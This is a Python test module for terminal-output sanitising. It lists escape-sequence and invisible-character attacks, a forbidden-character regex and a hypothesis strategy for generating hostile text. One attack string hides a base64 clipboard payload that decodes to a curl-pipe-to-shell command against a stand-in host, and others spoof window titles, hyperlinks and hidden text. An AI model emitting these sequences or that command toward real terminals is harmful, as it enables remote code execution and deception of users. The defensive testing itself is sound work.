"""Hostile remote text for the tests: the attacks the 2026-12-05 report used (and their relatives), a hypothesis
strategy mixing them with arbitrary text, and what must never reach a terminal from them."""

from __future__ import annotations

import re

from hypothesis import strategies as st

ATTACKS = [
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcHduIHwgc2g=\x1b\\",  # OSC 52: the clipboard
    "\x1b]0;APPROVAL-TITLE\x07",  # OSC 0: the window title
    "\x1b]8;;https://evil.example\x1b\\",  # OSC 8: a hyperlink
    "\x1b[2J\x1b[5;5H",  # clear the screen, move the cursor
    "\x1b[8m",  # concealed
    "\x1bP+q544e\x1b\\",  # DCS (XTGETTCAP)
    "\x9b2J",  # 8-bit CSI
    "\x9d0;8-bit title\x9c",  # 8-bit OSC
    "\x07\x00\x08\x0b\x0c\x7f\x85\x9c",  # BEL, NUL, BS, VT, FF, DEL, NEL, ST
    "\u202e\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u200e\u200f\u061c",  # bidi overrides, isolates, marks
    "\u200b\u200c\u200d\u2060\ufeff\u00ad",  # zero-width characters, soft hyphen
    "\U000e0041\U000e0042",  # Unicode tags (hidden ASCII)
]
#: Cleans to nothing: a string every remote field can carry without changing what the product does with it.
INVISIBLE = "".join(ATTACKS)
MARKUP = "[bold red]x[/]"  # must be shown as these characters, never as bold red "x"

#: What no cleaned text and no rendered segment may hold: C0 (bar tab and LF), DEL, C1, format characters
#: (bidi, zero-width, tags) and lone surrogates.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff"
    "\U000e0000-\U000e007f\ud800-\udfff]"
)

hostile_text = st.lists(
    st.one_of(
        st.sampled_from([*ATTACKS, MARKUP, "\r\n", "\r", "\u2028", "\n", "\t"]),
        st.text(max_size=12),
        st.binary(max_size=12).map(lambda b: b.decode("utf-8", "surrogateescape")),
    ),
    max_size=8,
).map("".join)
